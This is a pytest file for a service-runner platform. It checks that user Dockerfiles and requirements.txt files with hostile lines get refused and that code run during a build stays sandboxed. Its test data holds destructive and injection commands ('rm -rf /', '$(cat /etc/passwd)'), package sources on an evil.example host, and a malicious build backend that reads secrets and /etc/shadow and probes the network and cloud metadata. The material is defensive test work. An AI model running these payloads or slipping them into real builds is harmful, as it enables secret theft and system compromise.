"""Row 35 of the threat table, and what is understood of Dockerfiles and requirements."""

from __future__ import annotations

import asyncio
import io
import tarfile
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import pytest
from runner_stage import DOCKERFILE, PYTHON, WHY_NOT, a_service, a_stage, pieces

from voltagora.platform.registry.refusals import Refusal
from voltagora.platform.runner import dockerfile, pythons
from voltagora.platform.runner.environments import Index
from voltagora.platform.runner.requirements import Wanted, loosened
from voltagora.platform.runner.settings import Settings

sandboxed = pytest.mark.skipif(WHY_NOT is not None, reason=str(WHY_NOT))
INSTALLS = (
    f'FROM python:{PYTHON}\nCOPY . /\nRUN pip install -r requirements.txt\nCMD ["python", "service.py"]\n'
)


def read(tmp_path: Path, text: str) -> dockerfile.Recipe:
    (tmp_path / "Dockerfile").write_text(text)
    return dockerfile.read(tmp_path / "Dockerfile")


def test_the_simple_lines_of_a_dockerfile_are_understood(tmp_path: Path) -> None:
    recipe = read(
        tmp_path,
        "# syntax\nFROM python:3.8.5-slim-buster\nLABEL a=b\nWORKDIR /app\nENV A=1 B='two words'\n"
        "ENV C three\n"
        "COPY --chown=1:1 requirements.txt ./\nRUN pip3 install --no-cache-dir \\\n"
        "  # why\n  -r requirements.txt && "
        'mkdir -p data\nADD src/ lib/\nENTRYPOINT ["python", "-u"]\nCMD ["a.py"]\n',
    )
    assert recipe.python == (3, 8, 5)
    assert recipe.installs == ((8, "/app", ("--no-cache-dir", "-r", "requirements.txt")),)
    assert recipe.environment == {"A": "1", "B": "two words", "C": "three"}
    assert recipe.folders == ("/app", "/app/data")
    assert [(copy.sources, copy.target) for copy in recipe.copies] == [
        (("requirements.txt",), "/app"),
        (("src/",), "/app/lib"),
    ]
    assert (recipe.directory, recipe.command) == ("/app", ("python", "-u", "a.py"))
    assert read(tmp_path, "FROM python\nCMD python a.py $HOME\n").command == (
        "/bin/sh",
        "-c",
        "python a.py $HOME",
    )


@pytest.mark.parametrize(
    ("line", "number"),
    [
        *(("FROM ubuntu:22.04", 1), ("FROM python:2.7", 1), ("FROM --platform=x python:3.8", 1)),
        *(("RUN apt-get update", 2), ("RUN pip install x; rm -rf /", 2), ("RUN pip install x | sh", 2)),
        *(("RUN pip install $(cat /etc/passwd) && x", 2), ("RUN --mount=type=bind,source=/,target=/h ls", 2)),
        *(("RUN --security=insecure pip install x", 2), ("RUN docker run --privileged x", 2)),
        *(("VOLUME /etc", 2), ("USER root", 2), ("ARG X", 2), ('SHELL ["/bin/sh"]', 2), ("ONBUILD RUN x", 2)),
        *(("ADD https://evil.example/x /x", 2), ("COPY ../../etc/passwd /x", 2), ("COPY --from=x a b", 2)),
        *(("ENV LD_PRELOAD=/x.so", 2), ("ENV password=x", 2), ("ENV BROKER=evil", 2), ("ENV PATH=/x", 2)),
        *(
            ("__init__ x", 2),
            ("_read_line x", 2),
            ("HEALTHCHECK CMD x", 2),
            ("COPY $X /", 2),
            ('CMD ["a\\u0000"]', 2),
        ),
    ],
)
def test_row_35_any_other_line_is_refused_by_its_number(tmp_path: Path, line: str, number: int) -> None:
    text = line if number == 1 else f"FROM python:3.11\n{line}"
    with pytest.raises(Refusal, match=f"^Dockerfile line {number}: "):
        read(tmp_path, f"{text}\nCMD x\n")


HOSTILE_LINES = [
    *("-r /etc/passwd", "--requirement=/etc/passwd", "-r ../../x", "-c /etc/passwd", "-e .", "."),
    *(
        "--index-url https://evil.example/simple",
        "--extra-index-url https://evil.example",
        "-i https://evil.example",
    ),
    *(
        "--find-links /",
        "--trusted-host evil.example",
        "git+ssh://git@evil.example/x.git",
        "git+https://evil.example/x",
    ),
    *(
        "x @ https://evil.example/x.whl",
        "x @ file:///etc/passwd",
        "https://evil.example/x.tar.gz",
        "file:///x.whl",
    ),
    *(
        "../x.whl",
        "/x.whl",
        "./missing.whl",
        "x --global-option=--evil",
        "x --config-settings=a=b",
        "x; os.system()",
    ),
    *("x --hash=md5:abc", "$(touch /tmp/x)", "x==1 \\\n--index-url=https://evil.example"),
]


@pytest.mark.parametrize("line", HOSTILE_LINES)
def test_row_35_requirements_name_packages_of_the_index_only(data: Path, line: str) -> None:
    async def play() -> None:
        async with a_stage(data) as stage:
            service = a_service("row 35", 350)
            await stage.put(
                service, Dockerfile=INSTALLS, requirements_txt=f"# good\npaho-mqtt\n{line}\n", service_py=""
            )
            with pytest.raises(Refusal, match=r"requirements.txt line \d|passwd line"):
                await stage.runner.build(service)
            assert not stage.runner.is_built(service)
            assert "line" in (await stage.runner.build_log(service)).path.read_text()
            await stage.runner.remove(service)

    asyncio.run(play())


@pytest.mark.parametrize(
    "words", ["--index-url https://evil.example x", "-t / x", "--root / x", "git+https://x/y", "-r x y"]
)
def test_row_35_neither_do_arguments_of_pip(data: Path, words: str) -> None:
    async def play() -> None:
        async with a_stage(data) as stage:
            service = a_service("row 35", 350)
            await stage.put(service, Dockerfile=f"FROM python:{PYTHON}\nRUN pip install {words}\nCMD x\n")
            with pytest.raises(Refusal, match="Dockerfile line 2"):
                await stage.runner.build(service)

    asyncio.run(play())


HOSTILE_BACKEND = """
import os, socket, sys
def tried(what):
    try:
        return repr(what())
    except OSError as error:
        return type(error).__name__
def through_the_relay(host):
    line = socket.create_connection(("127.0.0.1", 3128), 2)
    line.sendall(("CONNECT %s HTTP/1.1\\r\\n\\r\\n" % host).encode())
    return line.recv(99)
print("ENV", sorted(os.environ))
print("READ", [tried(lambda: open(p).read()) for p in SECRETS])
print("NET", [tried(lambda: socket.create_connection(tuple(a), 1)) for a in ADDRESSES])
print("RELAY", [through_the_relay(h) for h in ("evil.example:443", "127.0.0.1:PORT", "169.254.169.254:80")])
print("UID", os.getuid())
sys.stdout.flush()
os.write(1, b"WROTE " + tried(lambda: open("/src/service.py", "w")).encode() + b"\\n")
sys.exit('that was all')
"""


@sandboxed
def test_row_35_code_that_runs_in_a_build_reaches_the_index_and_nothing_else(
    data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CANARY_OF_THE_PLATFORM", "canary-of-the-platform")
    (tmp_path / "secret").write_text("canary-secret")

    async def play() -> str:
        with an_index(tmp_path / "index") as (url, port):
            settings = Settings(index=Index(url=url))
            async with a_stage(data, settings) as stage:
                addresses = [["127.0.0.1", port], ["127.0.0.1", stage.hub.mqtt_port], ["169.254.169.254", 80]]
                setup = HOSTILE_BACKEND.replace("SECRETS", repr([str(tmp_path / "secret"), "/etc/shadow"]))
                setup = setup.replace("ADDRESSES", repr(addresses)).replace("PORT", str(stage.hub.mqtt_port))
                put_package(tmp_path / "index", "hostile", setup)
                service = a_service("hostile build", 351)
                await stage.put(service, Dockerfile=INSTALLS, requirements_txt="hostile\n", service_py="#")
                with pytest.raises(Refusal, match="that was all"):
                    await stage.runner.build(service)
                return (await stage.runner.build_log(service)).path.read_text()

    said = asyncio.run(play())
    assert "canary" not in said.lower().replace("canary_of", "")
    lines = dict(
        line.strip().split(" ", 1)
        for line in said.splitlines()
        if line.strip()[:3] in ("ENV", "REA", "NET", "REL", "UID", "WRO")
    )
    assert "CANARY_OF_THE_PLATFORM" not in lines["ENV"], said
    assert lines["READ"] == "['FileNotFoundError', 'FileNotFoundError']"
    assert set(lines["NET"].strip("[]").replace("'", "").split(", ")) <= {"ConnectionRefusedError", "OSError"}
    assert lines["RELAY"].count("403") == 3
    assert lines["UID"] == "1000"
    assert lines["WROTE"] == "OSError"


@sandboxed
def test_equal_requirements_share_one_environment_and_wheels_lie_beside_the_code(
    data: Path, tmp_path: Path
) -> None:
    async def play() -> None:
        async with a_stage(data, Settings(alive_seconds=0.2)) as stage:
            first, second = a_service("shares 1", 361), a_service("shares 2", 362)
            for service in (first, second):
                await stage.put(
                    service, Dockerfile=INSTALLS, requirements_txt="./own-1.0-py3-none-any.whl # ours\n"
                )
                await stage.runner.upload(service, "own-1.0-py3-none-any.whl", pieces(a_wheel()))
                await stage.put(service, service_py="import own; print('OWN', own.version)\n")
            await asyncio.gather(stage.runner.build(first), stage.runner.build(second))
            await stage.runner.start(first, "")
            await stage.until_ended(first)
            assert "OWN 1.0" in await stage.printed(first)
            logs = [(await stage.runner.build_log(each)).path.read_text() for each in (first, second)]
            assert sorted("was built before" in log for log in logs) == [False, True]

    asyncio.run(play())


@sandboxed
def test_builds_have_versions_and_can_be_gone_back_to(data: Path) -> None:
    async def play() -> None:
        async with a_stage(data, Settings(alive_seconds=0.2)) as stage:
            service = a_service("versions", 370)
            for version in range(1, 8):
                await stage.built(service, f"print('VERSION {version}')\n")
            assert [build.version for build in stage.runner.builds(service)] == [7, 6, 5, 4, 3]
            await stage.runner.roll_back(service, 6)
            assert [build.version for build in stage.runner.builds(service) if build.current] == [6]
            await stage.runner.start(service, "")
            await stage.until_ended(service)
            assert "VERSION 6" in await stage.printed(service)
            with pytest.raises(Refusal, match="There is no build 2"):
                await stage.runner.roll_back(service, 2)
            await stage.put(service, Dockerfile="FROM ubuntu\n")
            with pytest.raises(Refusal, match="Dockerfile line 1"):
                await stage.runner.build(service)
            assert not stage.runner.is_built(service)
            with pytest.raises(Refusal, match="Please upload service files and build image!"):
                await stage.runner.start(service, "")
            await stage.runner.roll_back(service, 7)
            assert stage.runner.is_built(service)

    asyncio.run(play())


def test_a_python_that_is_not_there_is_named_with_those_that_are() -> None:
    there = tuple(
        pythons.Python(version=version, executable="x", prefix="x")
        for version in ((3, 12, 1), (3, 11, 7), (3, 11, 2), (3, 8, 18))
    )
    pick = partial(pythons.pick, there, nearest=False)
    assert pick((3, 11))[0].version == (3, 11, 7)
    assert pick((3,))[0].version == (3, 12, 1)
    found, note = pick((3, 8, 5))
    assert (found.version, note) == ((3, 8, 18), "Python 3.8.18 stands in for 3.8.5.")
    with pytest.raises(Refusal, match=r"Python 3\.9 is not on this machine. There are: 3\.12\.1, 3\.11\.7"):
        pick((3, 9))
    found, note = pythons.pick(there, (3, 9), nearest=True)
    assert (found.version, note) == ((3, 11, 7), "Nearest Python: 3.11.7 in place of 3.9.")
    assert pythons.pick(there, (3, 14), nearest=True)[0].version == (3, 12, 1)


@sandboxed
def test_an_environment_that_no_build_uses_goes_at_the_next_start(tmp_path: Path) -> None:
    async def play() -> list[int]:
        service, found = a_service("sweep", 382), []
        (tmp_path / "services/sweep/incoming-x").mkdir(parents=True)
        async with a_stage(tmp_path) as stage:
            await stage.built(service, "")
            found.append(len(list((tmp_path / "environments").iterdir())))
            assert not (tmp_path / "services/sweep/incoming-x").exists()
        async with a_stage(tmp_path) as stage:
            found.append(len(list((tmp_path / "environments").iterdir())))
            assert stage.runner.is_built(service)
            await stage.runner.remove(service)
        async with a_stage(tmp_path):
            return [*found, len(list((tmp_path / "environments").iterdir()))]

    assert asyncio.run(play()) == [1, 1, 0]


def test_an_environment_is_named_by_all_that_is_in_it() -> None:
    asked = Wanted(lines=("a==1", "./b.whl"), local={"b.whl": "digest"})
    same = Wanted(lines=("./b.whl", "a==1"), local={"b.whl": "digest"})
    assert asked.digest("3.8.18") == same.digest("3.8.18")
    others = [
        asked.digest("3.8.19"),
        Wanted(lines=asked.lines, local={"b.whl": "another"}).digest("3.8.18"),
        Wanted(lines=asked.lines, local=asked.local, options=("--pre",)).digest("3.8.18"),
        Wanted(lines=("a==2", "./b.whl"), local=asked.local).digest("3.8.18"),
    ]
    assert asked.digest("3.8.18") not in others


def test_nearest_pins_loosen_exact_ones_only() -> None:
    lines = ("a==1.2.3", "b[x]==2.0", "c>=1", "./d.whl")
    assert loosened(lines, within_major=True) == ("a>=1.2.3,<2", "b[x]>=2.0,<3", "c>=1", "./d.whl")
    assert loosened(lines, within_major=False)[:2] == ("a>=1.2.3", "b[x]>=2.0")


@sandboxed
@pytest.mark.parametrize(
    ("lines", "place"),
    [
        ("COPY service.py /service.py", "/service.py"),
        ("WORKDIR /usr/src/app\nCOPY . .", "/usr/src/app/service.py"),
        ("COPY pkg /opt/x", "/opt/x/inner.py"),
        ("COPY pkg/*.py service.py there/", "/there/inner.py"),
        ("COPY . /app", "/app/pkg/inner.py"),
    ],
)
def test_files_lie_where_copy_puts_them(data: Path, lines: str, place: str) -> None:
    show = f"import os; print('THERE', os.path.exists({place!r}), os.getcwd()); "
    show += "open('mine', 'w'); open('log/x.log', 'w')"

    async def play() -> None:
        async with a_stage(data, Settings(alive_seconds=0.2)) as stage:
            service = a_service("places", 380)
            await stage.put(service, **{"pkg/inner_py": ""}, service_py="")
            text = f'FROM python:{PYTHON}\n{lines}\nCMD ["python", "-c", "{show}"]\n'
            await stage.put(service, Dockerfile=text)
            await stage.runner.build(service)
            await stage.runner.start(service, "")
            await stage.until_ended(service)
            printed = (data / "runs/places@1/output.log").read_text()
            assert "THERE True" in printed, printed
            assert stage.runner.runs(service)[0].reason == "exited: 0"
            await stage.runner.remove(service)

    asyncio.run(play())


@pytest.mark.parametrize(
    "line", ["COPY . /etc", "COPY service.py /usr/bin/python", "WORKDIR /proc", "COPY x /", "COPY . /venv/x"]
)
def test_no_file_goes_where_the_system_lies(data: Path, line: str) -> None:
    async def play() -> None:
        async with a_stage(data) as stage:
            service = a_service("system", 381)
            await stage.put(service, Dockerfile=DOCKERFILE.replace("COPY . /", line), service_py="")
            with pytest.raises(Refusal, match="Dockerfile"):
                await stage.runner.build(service)

    asyncio.run(play())


def a_wheel(version: str = "1.0") -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as wheel:
        wheel.writestr("own.py", f"version = '{version}'\n")
        wheel.writestr("own-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: own\nVersion: 1.0\n")
        wheel.writestr(
            "own-1.0.dist-info/WHEEL",
            "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        )
        wheel.writestr("own-1.0.dist-info/RECORD", "own.py,,\n")
    return written.getvalue()


def put_package(index: Path, name: str, backend: str) -> None:
    (index / "simple" / name).mkdir(parents=True)
    with tarfile.open(index / "simple" / name / f"{name}-1.0.tar.gz", "w:gz") as packed:
        project = "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['.']\n"
        for path, text in (("backend.py", backend), ("pyproject.toml", project)):
            member = tarfile.TarInfo(f"{name}-1.0/{path}")
            member.size = len(text.encode())
            packed.addfile(member, io.BytesIO(text.encode()))
    page = f'<a href="{name}-1.0.tar.gz">{name}-1.0.tar.gz</a>'
    (index / "simple" / name / "index.html").write_text(page)


@contextmanager
def an_index(folder: Path) -> Iterator[tuple[str, int]]:
    """A package index on a free port of this machine."""
    folder.mkdir()

    class Quiet(SimpleHTTPRequestHandler):
        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), partial(Quiet, directory=str(folder))) as server:
        thread = Thread(target=server.serve_forever)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}/simple", server.server_port
        finally:
            server.shutdown()
            thread.join()
